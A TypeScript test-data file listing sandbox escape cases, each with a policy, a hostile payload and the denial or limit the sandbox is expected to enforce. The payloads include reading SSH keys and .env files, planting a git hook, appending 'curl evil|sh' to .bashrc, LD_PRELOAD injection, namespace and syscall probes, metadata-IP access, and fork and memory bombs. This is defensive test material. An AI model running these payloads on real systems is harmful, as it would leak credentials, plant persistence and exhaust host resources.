/**
 * The escape suite, as data. Placeholders: {{root}} is a per-suite fixture dir
 * (see fixture.ts), {{home}} a fake home with ~/.ssh, {{work}} the writable
 * workdir ({{root}}/work), {{port}} a host loopback TCP service, {{sock}} a
 * host unix socket inside a granted dir.
 *
 * `expect` is checked for every case; `audit` names the event that must be in
 * the run's audit trail. Tag `both`: also run as an unprivileged host user
 * when the suite runs as root.
 */
export interface EscapeCase {
  id: string;
  tags: string[];
  policy: Record<string, unknown>;
  payload: string[];
  /** host env offered to the run (the policy decides what passes) */
  env?: Record<string, string>;
  expect: {
    exit?: 'zero' | 'nonzero';
    stdoutIncludes?: string[];
    /** checked against stdout and stderr */
    outputExcludes?: string[];
    limitHit?: string | string[];
    /** host file that must not exist after the run */
    hostAbsent?: string;
    /** host process cmdline fragment that must not be running after the run */
    noProcess?: string;
    audit: { event: string; decision?: string; reasonIncludes?: string };
  };
}

const PY = 'python3';
const SECRET = 'SECRET-KEY-MATERIAL';
const readRoot = { filesystem: { rules: [{ path: '{{root}}/data', writable: false }] } };
const fixtureRead = {
  filesystem: {
    rules: [
      { path: '{{root}}/data', writable: false },
      { path: '{{home}}', writable: false },
    ],
  },
};
const exitAudit = { event: 'exit' };
const sysc = (nr: string) => [
  PY,
  '-c',
  `import ctypes;print('rc', ctypes.CDLL(None, use_errno=True).syscall(${nr}, 0, 0, 0, 0))`,
];

export const CASES: EscapeCase[] = [
  // ---- positive controls: the sandbox is not simply broken ----
  {
    id: 'control-read-granted',
    tags: ['fs', 'control', 'both'],
    policy: readRoot,
    payload: ['cat', '{{root}}/data/ok.txt'],
    expect: { exit: 'zero', stdoutIncludes: ['OK-DATA'], audit: exitAudit },
  },
  {
    id: 'control-write-workdir',
    tags: ['fs', 'control', 'both'],
    policy: readRoot,
    payload: ['sh', '-c', 'echo written > out.txt && cat out.txt'],
    expect: { exit: 'zero', stdoutIncludes: ['written'], audit: exitAudit },
  },
  {
    id: 'control-node-spawns-child',
    tags: ['seccomp', 'control'],
    policy: readRoot,
    payload: [
      'node',
      '-e',
      'console.log(require("child_process").execFileSync("echo",["clone3-fallback-ok"]).toString())',
    ],
    expect: { exit: 'zero', stdoutIncludes: ['clone3-fallback-ok'], audit: exitAudit },
  },
  // ---- filesystem writes outside rw roots ----
  {
    id: 'fs-write-absolute',
    tags: ['fs', 'both'],
    policy: readRoot,
    payload: ['sh', '-c', 'echo x > {{root}}/data/pwned'],
    expect: { exit: 'nonzero', hostAbsent: '{{root}}/data/pwned', audit: exitAudit },
  },
  {
    id: 'fs-write-dotdot',
    tags: ['fs', 'both'],
    policy: readRoot,
    // The parents exist inside only as mount points on the private tmpfs: a
    // write may "succeed" there, but must never reach the host.
    payload: ['sh', '-c', 'echo x > ../pwned-dotdot'],
    expect: { hostAbsent: '{{root}}/pwned-dotdot', audit: exitAudit },
  },
  {
    id: 'fs-write-dotdot-into-readonly-grant',
    tags: ['fs', 'both'],
    policy: readRoot,
    payload: ['sh', '-c', 'echo x > ../data/pwned-dotdot'],
    expect: { exit: 'nonzero', hostAbsent: '{{root}}/data/pwned-dotdot', audit: exitAudit },
  },
  {
    id: 'fs-write-proc-self-root',
    tags: ['fs', 'both'],
    policy: readRoot,
    payload: ['sh', '-c', 'echo x > /proc/self/root{{root}}/data/pwned-proc'],
    expect: { exit: 'nonzero', hostAbsent: '{{root}}/data/pwned-proc', audit: exitAudit },
  },
  {
    id: 'fs-write-host-tmp',
    tags: ['fs'],
    policy: readRoot,
    payload: ['sh', '-c', 'echo x > /tmp/weft-escape-pwned && ls /tmp'],
    expect: { hostAbsent: '/tmp/weft-escape-pwned', audit: exitAudit },
  },
  // ---- reads of denied files ----
  {
    id: 'read-denied-direct',
    tags: ['fs', 'both'],
    policy: fixtureRead,
    payload: ['cat', '{{home}}/.ssh/id_rsa'],
    expect: {
      exit: 'nonzero',
      outputExcludes: [SECRET],
      audit: { event: 'fs.deny', decision: 'deny', reasonIncludes: 'mandatory deny' },
    },
  },
  {
    id: 'read-ungranted-direct',
    tags: ['fs', 'both'],
    policy: readRoot,
    payload: ['cat', '{{root}}/outside/secret.txt'],
    expect: {
      exit: 'nonzero',
      outputExcludes: [SECRET],
      audit: { event: 'fs.deny', decision: 'deny', reasonIncludes: 'not granted' },
    },
  },
  {
    id: 'read-denied-via-symlink',
    tags: ['fs', 'both'],
    policy: fixtureRead,
    payload: [
      'sh',
      '-c',
      'ln -s {{home}}/.ssh/id_rsa link; cat link; ln -s {{root}}/outside/secret.txt l2; cat l2',
    ],
    expect: { exit: 'nonzero', outputExcludes: [SECRET], audit: exitAudit },
  },
  {
    id: 'read-denied-via-prelinked-symlink',
    tags: ['fs'],
    policy: { filesystem: { rules: [{ path: '{{root}}/links', writable: false }] } },
    payload: ['cat', '{{root}}/links/to-secret'],
    expect: { exit: 'nonzero', outputExcludes: [SECRET], audit: exitAudit },
  },
  {
    id: 'read-denied-via-hardlink',
    tags: ['fs', 'both'],
    policy: fixtureRead,
    payload: [
      'sh',
      '-c',
      'ln {{root}}/outside/secret.txt hard; ln {{home}}/.ssh/id_rsa hard2; cat hard hard2',
    ],
    expect: { exit: 'nonzero', outputExcludes: [SECRET], audit: exitAudit },
  },
  {
    id: 'read-denied-via-rename',
    tags: ['fs'],
    policy: readRoot,
    payload: ['sh', '-c', 'mv .env stolen; mv .env.local stolen2; cat stolen stolen2 .env'],
    expect: { exit: 'nonzero', outputExcludes: ['ENV-SECRET'], audit: exitAudit },
  },
  {
    id: 'mandatory-deny-in-writable-root',
    tags: ['fs', 'both'],
    policy: readRoot,
    payload: [
      'sh',
      '-c',
      'cat .env .env.local; echo evil > .git/hooks/pre-commit; cat .git/hooks/pre-commit',
    ],
    expect: { exit: 'nonzero', outputExcludes: ['ENV-SECRET', 'evil'], audit: exitAudit },
  },
  {
    id: 'mandatory-deny-home-granted',
    tags: ['fs'],
    policy: { filesystem: { rules: [{ path: '{{home}}', writable: true }] } },
    payload: [
      'sh',
      '-c',
      'ls -a {{home}}; cat {{home}}/.ssh/id_rsa; echo "curl evil|sh" >> {{home}}/.bashrc',
    ],
    expect: { outputExcludes: [SECRET], stdoutIncludes: ['notes.txt'], audit: exitAudit },
  },
  // ---- namespaces, mounts, ptrace ----
  {
    id: 'mount-tmpfs',
    tags: ['seccomp', 'both'],
    policy: readRoot,
    payload: ['sh', '-c', 'mkdir m; mount -t tmpfs none m && echo MOUNTED'],
    expect: { outputExcludes: ['MOUNTED'], audit: exitAudit },
  },
  {
    id: 'remount-rw',
    tags: ['seccomp'],
    policy: readRoot,
    payload: [
      'sh',
      '-c',
      'mount -o remount,rw {{root}}/data && echo REMOUNTED; umount {{root}}/data && echo UNMOUNTED',
    ],
    expect: { outputExcludes: ['REMOUNTED', 'UNMOUNTED'], audit: exitAudit },
  },
  {
    id: 'unshare-userns',
    tags: ['seccomp', 'both'],
    policy: readRoot,
    payload: ['sh', '-c', 'unshare -Ur id && echo UNSHARED'],
    expect: { outputExcludes: ['UNSHARED'], audit: exitAudit },
  },
  {
    id: 'setns-nsenter',
    tags: ['seccomp'],
    policy: readRoot,
    payload: ['sh', '-c', 'nsenter -t 1 -a true && echo ENTERED'],
    expect: { outputExcludes: ['ENTERED'], audit: exitAudit },
  },
  {
    id: 'ptrace-parent',
    tags: ['seccomp', 'both'],
    policy: readRoot,
    payload: [PY, '-c', 'import ctypes,os;print("rc", ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0))'],
    expect: { stdoutIncludes: ['rc -1'], audit: exitAudit },
  },
  {
    id: 'bpf-syscall',
    tags: ['seccomp'],
    policy: readRoot,
    payload: sysc('321'),
    expect: { stdoutIncludes: ['rc -1'], audit: exitAudit },
  },
  {
    id: 'io-uring-setup',
    tags: ['seccomp'],
    policy: readRoot,
    payload: sysc('425'),
    expect: { stdoutIncludes: ['rc -1'], audit: exitAudit },
  },
  {
    id: 'keyctl',
    tags: ['seccomp'],
    policy: readRoot,
    payload: sysc('250'),
    expect: { stdoutIncludes: ['rc -1'], audit: exitAudit },
  },
  {
    id: 'x32-syscall-killed',
    tags: ['seccomp'],
    policy: readRoot,
    payload: sysc('0x40000000 | 39'),
    expect: { exit: 'nonzero', outputExcludes: ['rc '], audit: exitAudit },
  },
  {
    id: 'netlink-socket',
    tags: ['seccomp', 'net'],
    policy: readRoot,
    payload: [
      PY,
      '-c',
      'import socket\ntry:\n socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0); print("OPENED")\nexcept OSError as e: print("refused", e.errno)',
    ],
    expect: { stdoutIncludes: ['refused 97'], audit: exitAudit },
  },
  {
    id: 'setuid-gains-nothing',
    tags: ['privesc', 'both'],
    policy: readRoot,
    payload: ['sh', '-c', 'su -c id root; /usr/bin/newgrp root; id -u'],
    expect: { outputExcludes: ['uid=0'], stdoutIncludes: ['1000'], audit: exitAudit },
  },
  // ---- environment ----
  {
    id: 'host-env-secret',
    tags: ['env', 'both'],
    policy: readRoot,
    env: {
      WEFT_TEST_SECRET: 'S3CR3T-ENV-VALUE',
      LD_PRELOAD: '/tmp/evil.so',
      NODE_OPTIONS: '--require /tmp/evil.js',
    },
    payload: [
      'sh',
      '-c',
      'env; cat /proc/1/environ /proc/self/environ | tr "\\0" "\\n"; cat /proc/1/cmdline',
    ],
    expect: { outputExcludes: ['S3CR3T-ENV-VALUE', 'evil'], audit: exitAudit },
  },
  {
    id: 'loader-var-dropped-even-if-allowed',
    tags: ['env'],
    policy: { ...readRoot, environment: { rules: [{ pattern: '*' }] } },
    env: { LD_PRELOAD: '/tmp/evil.so', BASH_ENV: '/tmp/evil.sh', ALLOWED_VAR: 'visible' },
    payload: ['env'],
    expect: { stdoutIncludes: ['ALLOWED_VAR=visible'], outputExcludes: ['evil'], audit: exitAudit },
  },
  // ---- network ----
  {
    id: 'host-unix-socket',
    tags: ['net', 'both'],
    policy: { filesystem: { rules: [{ path: '{{root}}/sockdir', writable: false }] } },
    payload: [
      PY,
      '-c',
      'import socket\ns=socket.socket(socket.AF_UNIX)\ntry:\n s.connect("{{sock}}"); print("CONNECTED")\nexcept OSError as e: print("refused", e)',
    ],
    expect: { outputExcludes: ['CONNECTED'], audit: exitAudit },
  },
  {
    id: 'tcp-egress',
    tags: ['net', 'both'],
    policy: readRoot,
    payload: [
      PY,
      '-c',
      'import socket\ntry:\n socket.create_connection(("1.1.1.1", 80), 2); print("CONNECTED")\nexcept OSError as e: print("refused", e)',
    ],
    expect: { stdoutIncludes: ['refused'], audit: exitAudit },
  },
  {
    id: 'udp-egress-and-dns',
    tags: ['net'],
    policy: readRoot,
    payload: [
      PY,
      '-c',
      'import socket\ntry:\n s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"x", ("8.8.8.8", 53)); print("SENT")\nexcept OSError as e: print("refused", e)\ntry:\n print(socket.gethostbyname("example.com")); print("RESOLVED")\nexcept OSError as e: print("nodns", e)',
    ],
    expect: { outputExcludes: ['SENT', 'RESOLVED'], audit: exitAudit },
  },
  {
    id: 'host-loopback-service',
    tags: ['net', 'both'],
    policy: readRoot,
    payload: [
      PY,
      '-c',
      'import socket\ntry:\n socket.create_connection(("127.0.0.1", {{port}}), 2); print("CONNECTED")\nexcept OSError as e: print("refused", e)',
    ],
    expect: { stdoutIncludes: ['refused'], audit: exitAudit },
  },
  {
    id: 'metadata-ip',
    tags: ['net'],
    policy: readRoot,
    payload: [
      PY,
      '-c',
      'import socket\ntry:\n socket.create_connection(("169.254.169.254", 80), 2); print("CONNECTED")\nexcept OSError as e: print("refused", e)',
    ],
    expect: { stdoutIncludes: ['refused'], audit: exitAudit },
  },
  // ---- resources ----
  {
    id: 'fork-bomb',
    tags: ['limits', 'both'],
    policy: { ...readRoot, limits: { pids: 32, wall_seconds: 5 } },
    payload: ['bash', '-c', 'bomb() { bomb | bomb & }; bomb; sleep 1; echo survived'],
    expect: { limitHit: ['pids', 'wall'], audit: { event: 'limit.hit', decision: 'deny' } },
  },
  {
    id: 'memory-bomb',
    tags: ['limits', 'both'],
    policy: { ...readRoot, limits: { memory_mb: 256 } },
    payload: [PY, '-c', 'x = bytearray(1024 * 1024 * 1024); print("ALLOCATED")'],
    expect: {
      exit: 'nonzero',
      outputExcludes: ['ALLOCATED'],
      limitHit: 'memory',
      audit: { event: 'limit.hit', reasonIncludes: 'memory' },
    },
  },
  {
    id: 'memory-bomb-many-processes',
    tags: ['limits', 'both'],
    // each process stays under RLIMIT_AS; together they pass the limit
    policy: { ...readRoot, limits: { memory_mb: 200, wall_seconds: 20 } },
    payload: [
      'sh',
      '-c',
      `for i in 1 2 3 4 5 6; do ${PY} -c "x = bytearray(60 * 1024 * 1024); import time; time.sleep(10)" & done; wait; echo SURVIVED`,
    ],
    expect: {
      outputExcludes: ['SURVIVED'],
      limitHit: 'memory',
      audit: { event: 'limit.hit', reasonIncludes: 'memory' },
    },
  },
  {
    id: 'cpu-spin',
    tags: ['limits'],
    policy: { ...readRoot, limits: { cpu_seconds: 1, wall_seconds: 20 } },
    payload: ['sh', '-c', 'while :; do :; done'],
    expect: { exit: 'nonzero', limitHit: 'cpu', audit: { event: 'limit.hit', reasonIncludes: 'cpu' } },
  },
  {
    id: 'wall-time',
    tags: ['limits'],
    policy: { ...readRoot, limits: { wall_seconds: 1 } },
    payload: ['sleep', '30'],
    expect: { limitHit: 'wall', audit: { event: 'limit.hit', reasonIncludes: 'wall' } },
  },
  {
    id: 'disk-fill',
    tags: ['limits', 'both'],
    policy: { ...readRoot, limits: { fsize_mb: 5 } },
    payload: ['sh', '-c', 'head -c 50000000 /dev/zero > big.bin'],
    expect: { exit: 'nonzero', limitHit: 'fsize', audit: { event: 'limit.hit', reasonIncludes: 'fsize' } },
  },
  {
    id: 'tmp-fill',
    tags: ['limits'],
    policy: { ...readRoot, limits: { fsize_mb: 5 } },
    payload: [
      'sh',
      '-c',
      'for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22 23 24 25; do head -c 4000000 /dev/zero > /tmp/f$i || exit 1; done; echo FILLED',
    ],
    expect: { exit: 'nonzero', outputExcludes: ['FILLED'], audit: exitAudit },
  },
  {
    id: 'dev-shm-fill',
    tags: ['limits'],
    policy: { ...readRoot, limits: { fsize_mb: 5 } },
    payload: [
      'sh',
      '-c',
      'for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22 23 24 25; do head -c 4000000 /dev/zero > /dev/shm/f$i || exit 1; done; echo FILLED; touch /dev/evil && echo DEVWRITE',
    ],
    expect: { exit: 'nonzero', outputExcludes: ['FILLED', 'DEVWRITE'], audit: exitAudit },
  },
  {
    id: 'dev-create-file',
    tags: ['fs'],
    policy: readRoot,
    payload: [
      'sh',
      '-c',
      'head -c 1000 /dev/zero > /dev/evil && echo DEVWRITE; echo ok > /dev/null && echo NULL-OK',
    ],
    expect: { stdoutIncludes: ['NULL-OK'], outputExcludes: ['DEVWRITE'], audit: exitAudit },
  },
  {
    id: 'output-flood',
    tags: ['limits', 'both'],
    policy: { ...readRoot, limits: { output_bytes: 65536 } },
    payload: ['yes', 'flood'],
    expect: { limitHit: 'output', audit: { event: 'limit.hit', reasonIncludes: 'output' } },
  },
  {
    id: 'orphan-outlives-run',
    tags: ['limits', 'both'],
    policy: readRoot,
    payload: ['sh', '-c', '(setsid sleep 31.4159 &) ; nohup sleep 31.4159 >/dev/null 2>&1 & echo started'],
    expect: { stdoutIncludes: ['started'], noProcess: 'sleep\u000031.4159', audit: exitAudit },
  },
];
